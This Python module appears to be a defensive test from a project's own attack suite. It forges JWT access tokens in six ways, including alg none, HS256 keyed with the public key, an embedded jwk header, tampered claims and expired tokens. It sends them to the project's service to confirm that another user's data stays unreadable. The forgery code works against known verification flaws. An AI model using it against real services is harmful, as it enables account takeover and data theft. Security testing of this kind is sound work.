"""Forged access tokens (RFC 8725): send several of each kind, to read another user's data."""

import hashlib
import hmac
import json
import time
from base64 import urlsafe_b64decode, urlsafe_b64encode
from collections.abc import Callable
from http import HTTPStatus
from typing import Any, Final, cast
from uuid import uuid4

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat, load_pem_private_key

from auth_common.keys.jwk import public_jwk, public_key
from tools.attacks.attack import Breaches, Run
from tools.attacks.target import Target
from tools.attacks.users import log_in, register

#: Tokens of each kind. All tokens differ, so the gateway returns no cached result of its authorizer.
_COPIES: Final = 10

JsonObject = dict[str, Any]


def forge_access_tokens(target: Target) -> Run:
    """Forge an admin's access tokens. The attacker has an own access token and the public keys."""
    victim = register(target, "victim")
    own = log_in(target, register(target, "forger")).access
    jwk = target.send("GET", "/.well-known/jwks.json").document["keys"][0]
    # An expired token with a genuine signature needs the service's signing key, which a real attacker does not have.
    pem = (target.data_dir / "keys" / "signing-key.pem").read_bytes()
    forgers = _forgers(own, jwk, cast("ec.EllipticCurvePrivateKey", load_pem_private_key(pem, password=None)))

    def run() -> Breaches:
        breaches = set()
        for _ in range(_COPIES):
            for kind, forge in forgers.items():
                claims = {**_decoded(own.split(".")[1]), "sub": victim.id, "role": "admin", "jti": str(uuid4())}
                response = target.send("GET", f"/users/{victim.id}", token=forge(claims))
                if response.status != HTTPStatus.UNAUTHORIZED:
                    breaches.add(f"{kind}: unexpected response {response.status}")
        return sorted(breaches)

    return run


def _forgers(
    own: str, jwk: JsonObject, signing_key: ec.EllipticCurvePrivateKey
) -> dict[str, Callable[[JsonObject], str]]:
    """Return a function from claims to a forged token, for each kind of forgery."""
    encoded_header, _, genuine_signature = own.split(".")
    header = _decoded(encoded_header)
    my_key = ec.generate_private_key(ec.SECP256R1())
    pem = public_key(jwk).public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)

    def expire(claims: JsonObject) -> JsonObject:
        an_hour_ago = int(time.time()) - 3600
        return {**claims, "iat": an_hour_ago - 900, "nbf": an_hour_ago - 900, "exp": an_hour_ago}

    return {
        "no algorithm": lambda claims: f"{_signing_input({**header, 'alg': 'none'}, claims)}.",
        "another key": lambda claims: _signed(my_key, header, claims),
        # The public key is the secret of a MAC (CVE-2015-9235).
        "HS256 with the public key": lambda claims: _with_mac(pem, {**header, "alg": "HS256"}, claims),
        # The token contains the public key of its signature (CVE-2018-0114).
        "its own key in the header": lambda claims: _signed(
            my_key, {**header, "jwk": public_jwk(my_key.public_key())}, claims
        ),
        "tampered": lambda claims: f"{_signing_input(header, claims)}.{genuine_signature}",
        "expired": lambda claims: _signed(signing_key, header, expire(claims)),
    }


def _signed(key: ec.EllipticCurvePrivateKey, header: JsonObject, claims: JsonObject) -> str:
    """Return a token with an ES256 signature: r and s with 32 bytes each (RFC 7518 section 3.4)."""
    signing_input = _signing_input(header, claims)
    r, s = decode_dss_signature(key.sign(signing_input.encode(), ec.ECDSA(SHA256())))
    return f"{signing_input}.{_base64url(r.to_bytes(32) + s.to_bytes(32))}"


def _with_mac(secret: bytes, header: JsonObject, claims: JsonObject) -> str:
    signing_input = _signing_input(header, claims)
    return f"{signing_input}.{_base64url(hmac.digest(secret, signing_input.encode(), hashlib.sha256))}"


def _signing_input(header: JsonObject, claims: JsonObject) -> str:
    return ".".join(_base64url(json.dumps(part).encode()) for part in (header, claims))


def _decoded(part: str) -> JsonObject:
    decoded: JsonObject = json.loads(urlsafe_b64decode(part + "=="))
    return decoded


def _base64url(octets: bytes) -> str:
    return urlsafe_b64encode(octets).rstrip(b"=").decode()
